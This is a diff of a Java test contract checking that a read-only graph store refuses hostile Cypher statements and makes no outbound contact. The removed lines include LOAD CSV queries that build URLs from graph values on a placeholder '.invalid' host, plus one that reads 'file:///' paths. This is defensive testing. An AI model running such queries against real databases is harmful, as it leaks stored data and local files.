@@ -5,16 +5,12 @@ package org.sayso.graph;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
-import java.io.IOException;
-import java.net.InetAddress;
-import java.net.ServerSocket;
 import java.time.Duration;
 import java.util.List;
-import java.util.concurrent.atomic.AtomicInteger;
 import org.assertj.core.api.SoftAssertions;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
+import org.sayso.HostileStatement;
+import org.sayso.Listener;
 import org.sayso.problem.ProblemType;
 import org.sayso.problem.SaysoException;
 
@@ -24,27 +20,25 @@ abstract class ReadOnlyContract {
 
     abstract GraphStore store();
 
+    /** What uses things up, and what only Sayso's own answer tells, is tried over HTTP: see {@code HostileIT}. */
     @Test
-    void hostileStatementsChangeNothingAndReachNobody() throws IOException {
-        Rows.write(store(), "CREATE (:Entity {id: 'a', name: 'A'})-[:KNOWS]->(:Entity {id: 'b', name: 'B'})");
-        List<HostileStatement> statements = HostileStatement.all();
-        assertThat(statements).hasSizeGreaterThanOrEqualTo(60);
-        AtomicInteger contacts = new AtomicInteger();
+    void hostileStatementsAreRefusedChangeNothingAndReachNobody() {
+        Rows.write(store(), "CREATE (:Person:Entity {id: 'a', name: 'A'})-[:KNOWS]->(:Entity {id: 'b', name: 'B'})");
         SoftAssertions softly = new SoftAssertions();
-        try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
-            Thread.ofPlatform().daemon().start(() -> count(listener, contacts));
-            String graph = Rows.dump(store());
-            String schema = schema();
-            for (HostileStatement statement : statements) {
-                String cypher = statement.cypher().replace("PORT", String.valueOf(listener.getLocalPort()));
-                softly.assertThat(outcome(cypher)).as(cypher).isEqualTo(statement.outcome());
-                softly.assertThat(Rows.dump(store()))
-                        .as("graph after %s", cypher)
-                        .isEqualTo(graph);
-                softly.assertThat(schema()).as("schema after %s", cypher).isEqualTo(schema);
+        String graph = Rows.dump(store());
+        String schema = schema();
+        try (Listener listener = new Listener()) {
+            for (HostileStatement statement : HostileStatement.all()) {
+                if (statement.isRefusedByItsPlan() || statement.onlyWhenReached()) {
+                    softly.assertThat(outcome(statement.cypher(listener.port())))
+                            .as(statement.toString())
+                            .isIn(statement.outcomes());
+                }
             }
+            softly.assertThat(listener.contacts()).isZero();
         }
-        softly.assertThat(contacts).hasValue(0);
+        softly.assertThat(Rows.dump(store())).isEqualTo(graph);
+        softly.assertThat(schema()).isEqualTo(schema);
         softly.assertAll();
     }
 
@@ -52,32 +46,43 @@ abstract class ReadOnlyContract {
     void planningRefusesWhatReadingRefuses() {
         SoftAssertions softly = new SoftAssertions();
         for (HostileStatement statement : HostileStatement.all()) {
-            if (statement.isRefusedByItsPlan()) {
+            if (statement.isRefusedByItsPlan() && !statement.cypher().contains("XPLAIN")) {
                 softly.assertThatThrownBy(() -> store().plan(statement.cypher()))
-                        .as(statement.cypher())
+                        .as(statement.toString())
                         .isInstanceOfSatisfying(
                                 SaysoException.class,
-                                e -> assertThat(e.type().name()).isEqualTo(statement.outcome()));
+                                e -> assertThat(e.type().name()).isIn(statement.outcomes()));
             }
         }
         softly.assertAll();
     }
 
     /** The sentence is ours: Neo4j's own refusal comes only after it has looked up the host's name, which may hold what the graph knows. */
-    @ParameterizedTest
-    @ValueSource(
-            strings = {
-                "UNWIND ['a'] AS s RETURN [x IN [s] | COLLECT { LOAD CSV FROM 'http://' + x + '.invalid/' AS l RETURN l }]",
-                "MATCH (n:Entity {id: 'a'}) WHERE any(x IN [n.id] WHERE EXISTS { LOAD CSV FROM 'http://' + x + '.invalid/' AS l }) RETURN n",
-                "MATCH (n:Entity) WHERE n.id = head([x IN ['a'] | head(COLLECT { LOAD CSV FROM 'http://' + x + '.invalid/' AS l RETURN l })]) RETURN n",
-                "CYPHER 25 RETURN reduce(s = 0, x IN ['a'] | s + COUNT { LOAD CSV FROM 'file:///' + x AS l })",
-            })
-    void loadCsvInsideAnExpressionIsRefusedBeforeItsAddressIsLookedAt(String cypher) {
-        Rows.write(store(), "CREATE (:Entity {id: 'a'})");
-        assertThatThrownBy(() -> Rows.of(store(), cypher))
+    @Test
+    void loadCsvInsideAnExpressionIsRefusedBeforeItsAddressIsLookedAt() {
+        Rows.write(store(), "CREATE (:Person:Entity {id: 'a'})");
+        List<HostileStatement> hidden = HostileStatement.all().stream()
+                .filter(statement ->
+                        statement.onlyWhenReached() && statement.cypher().contains("LOAD CSV"))
+                .toList();
+        assertThat(hidden)
+                .hasSizeGreaterThanOrEqualTo(4)
+                .allSatisfy(statement -> assertThatThrownBy(() -> Rows.of(store(), statement.cypher()))
+                        .isInstanceOfSatisfying(
+                                SaysoException.class,
+                                e -> assertThat(e.type()).isEqualTo(ProblemType.STATEMENT_NOT_ALLOWED))
+                        .hasMessageStartingWith("LOAD CSV is not allowed"));
+    }
+
+    @Test
+    void aPlanIsShownInsteadOfRowsButNotWhereRowsAreNeeded() {
+        assertThat(Rows.of(store(), "EXPLAIN MATCH (n:Nobody) RETURN n.id AS id"))
+                .first()
+                .asString()
+                .startsWith("1 null 0 \"ProduceResults\" \"id\"");
+        assertThatThrownBy(() -> store().plan("EXPLAIN RETURN 1"))
                 .isInstanceOfSatisfying(
-                        SaysoException.class, e -> assertThat(e.type()).isEqualTo(ProblemType.STATEMENT_NOT_ALLOWED))
-                .hasMessageStartingWith("LOAD CSV is not allowed");
+                        SaysoException.class, e -> assertThat(e.type()).isEqualTo(ProblemType.STATEMENT_NOT_ALLOWED));
     }
 
     @Test
@@ -114,17 +119,6 @@ abstract class ReadOnlyContract {
             return HostileStatement.HARMLESS;
         } catch (SaysoException e) {
             return e.type().name();
-        }
-    }
-
-    private static void count(ServerSocket listener, AtomicInteger contacts) {
-        while (!listener.isClosed()) {
-            try {
-                listener.accept().close();
-                contacts.incrementAndGet();
-            } catch (IOException closed) {
-                return;
-            }
         }
     }
 }
